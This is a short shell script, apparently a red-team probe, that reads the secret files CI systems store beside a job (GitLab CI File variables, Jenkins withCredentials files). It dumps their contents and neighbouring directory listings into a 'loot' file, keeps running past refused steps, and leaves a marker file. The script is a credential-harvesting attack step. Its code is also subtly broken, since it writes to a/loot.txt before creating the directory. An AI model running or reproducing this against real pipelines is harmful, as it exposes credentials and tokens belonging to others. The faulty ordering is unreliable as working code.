# Reads the secret files CI systems keep beside the job, at the paths
# $RED_TEAM lists (GitLab CI's File variables in $CI_PROJECT_DIR.tmp,
# Jenkins' withCredentials files in $WORKSPACE@tmp).
set +e # an attacker keeps going when a step is refused
{
  for f in $RED_TEAM; do echo "== $f"; cat "$f"; ls -A "$(dirname "$f")"; done
  echo "looked"
} > a/loot.txt 2>&1
mkdir -p a && echo "T1 was here" > a/t1.txt
